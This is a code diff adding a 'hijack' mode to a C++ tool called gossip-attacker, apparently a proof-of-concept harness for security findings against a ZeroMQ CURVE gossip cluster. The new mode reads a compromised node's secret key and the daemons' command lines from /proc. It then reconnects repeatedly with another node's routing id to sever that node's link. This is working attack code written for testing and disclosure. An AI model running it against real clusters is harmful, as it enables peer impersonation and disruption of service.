@@ -11,6 +11,12 @@
 //     Speaks ZeroMQ to every port of every gossipd child of PID as node N (a routing
 //     id is all an unauthenticated peer channel asks for) and sends one message
 //     that never ends: 64 KiB frames, each marked "more" (finding 2).
+//
+//   gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]
+//     With node K's own valid CURVE key (read from gossipctl cluster --curve's run
+//     directory: a compromised node), connects to node 0 again and again presenting
+//     node N's routing id, which ROUTER_HANDOVER used to hand it, cutting node N's
+//     link (finding 9).
 
 #include <arpa/inet.h>
 #include <errno.h>
@@ -31,6 +37,7 @@
 #include <string>
 #include <thread>
 #include <vector>
+#include <zmq.hpp>
 
 namespace {
 
@@ -40,7 +47,8 @@ using Clock = std::chrono::steady_clock;
 [[noreturn]] void usage() {
   std::fprintf(stderr,
                "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n"
-               "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n");
+               "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n"
+               "       gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]\n");
   std::exit(2);
 }
 
@@ -223,17 +231,86 @@ int multipart_flood(int parent, int as_node, double seconds) {
   return 0;
 }
 
+// The command line of a process, one string per argument.
+std::vector<std::string> cmdline_of(int pid) {
+  const std::string raw = read_file(fs::path("/proc") / std::to_string(pid) / "cmdline");
+  std::vector<std::string> args;
+  for (size_t at = 0; at < raw.size();) {
+    const size_t end = raw.find('\0', at);
+    args.push_back(raw.substr(at, end - at));
+    if (end == std::string::npos) break;
+    at = end + 1;
+  }
+  return args;
+}
+
+std::string flag_value(const std::vector<std::string>& args, const std::string& flag,
+                       const std::string& prefix = "") {
+  for (size_t i = 0; i + 1 < args.size(); ++i)
+    if (args[i] == flag && args[i + 1].starts_with(prefix))
+      return args[i + 1].substr(prefix.size());
+  return "";
+}
+
+int hijack(int parent, int key_of, int claim, double seconds) {
+  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
+  std::string endpoint, server_key, secret;
+  while (Clock::now() < end && (endpoint.empty() || server_key.empty() || secret.empty())) {
+    for (int pid : daemons_of(parent)) {
+      const auto args = cmdline_of(pid);
+      if (flag_value(args, "--id") == "0") endpoint = flag_value(args, "--listen");
+      if (server_key.empty()) server_key = flag_value(args, "--peer-key", "0=");
+      const std::string dir = flag_value(args, "--run-dir");
+      const std::string toml =
+          read_file(fs::path(dir) / ("node-" + std::to_string(key_of) + ".toml"));
+      if (const auto q = toml.find('"'); q != std::string::npos)
+        secret = toml.substr(q + 1, toml.find('"', q + 1) - q - 1);
+    }
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  }
+  if (endpoint.empty() || server_key.empty() || secret.empty()) {
+    std::printf("found no CURVE cluster\n");
+    return 1;
+  }
+  char pub[41] = {};
+  zmq_curve_public(pub, secret.c_str());
+  std::printf("node %d's key, claiming node %d, against node 0 at %s\n", key_of, claim,
+              endpoint.c_str());
+  zmq::context_t context;
+  uint64_t connections = 0;
+  while (Clock::now() < end) {
+    zmq::socket_t s(context, zmq::socket_type::dealer);
+    s.set(zmq::sockopt::routing_id, "node-" + std::to_string(claim));
+    s.set(zmq::sockopt::curve_serverkey, server_key);
+    s.set(zmq::sockopt::curve_publickey, std::string(pub));
+    s.set(zmq::sockopt::curve_secretkey, secret);
+    s.set(zmq::sockopt::linger, 0);
+    s.connect(endpoint);
+    s.send(zmq::str_buffer("hijacked"), zmq::send_flags::dontwait);
+    ++connections;
+    std::fflush(stdout);
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  }
+  std::printf("connected %llu times as node %d\n", static_cast<unsigned long long>(connections),
+              claim);
+  return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   if (argc < 2) usage();
   const std::string mode = argv[1];
-  int parent = -1, as_node = -1;
+  int parent = -1, as_node = -1, key_of = -1, claim = -1;
   double seconds = 3600;
   for (int i = 2; i + 1 < argc; i += 2) {
     const std::string flag = argv[i];
     if (flag == "--parent")
       parent = std::atoi(argv[i + 1]);
+    else if (flag == "--key-of")
+      key_of = std::atoi(argv[i + 1]);
+    else if (flag == "--claim")
+      claim = std::atoi(argv[i + 1]);
     else if (flag == "--as-node")
       as_node = std::atoi(argv[i + 1]);
     else if (flag == "--seconds")
@@ -242,6 +319,8 @@ int main(int argc, char** argv) {
       usage();
   }
   if (mode == "idle-connect" && parent > 0) return idle_connect(parent, seconds);
+  if (mode == "hijack" && parent > 0 && key_of >= 0 && claim >= 0)
+    return hijack(parent, key_of, claim, seconds);
   if (mode == "multipart-flood" && parent > 0 && as_node >= 0)
     return multipart_flood(parent, as_node, seconds);
   usage();
